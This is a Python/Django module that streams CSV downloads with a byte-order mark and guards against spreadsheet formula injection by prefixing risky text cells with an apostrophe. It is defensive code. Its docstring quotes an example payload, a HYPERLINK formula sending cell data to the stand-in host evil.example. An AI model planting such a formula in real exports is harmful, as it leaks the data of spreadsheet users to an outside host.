"""Every CSV Regulars writes goes through here: UTF-8 with a byte-order mark (so Excel opens the
Chinese correctly), streamed row by row, and with formulas neutralised.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some read a leading tab or
carriage return the same way) as a formula: a consumer whose display name is
`=HYPERLINK("http://evil.example/?"&A1)` would otherwise run in the merchant's Excel. Such text
cells get a leading apostrophe, which spreadsheets show as text (OWASP, "CSV Injection").
Numbers are written as numbers, so a negative amount stays a number.
"""

import csv
from collections.abc import Iterable

from django.http import StreamingHttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class _Echo:
    def write(self, value):
        return value


def lines(header: Iterable, rows: Iterable[Iterable]) -> Iterable[str]:
    """The CSV text, line by line, starting with the byte-order mark and the header."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([safe_cell(cell) for cell in row])


def response(filename: str, header: Iterable, rows: Iterable[Iterable]) -> StreamingHttpResponse:
    """A streamed CSV download (a year of a busy shop never sits in memory)."""
    answer = StreamingHttpResponse(lines(header, rows), content_type="text/csv; charset=utf-8")
    answer["Content-Disposition"] = f'attachment; filename="{filename}"'
    return answer
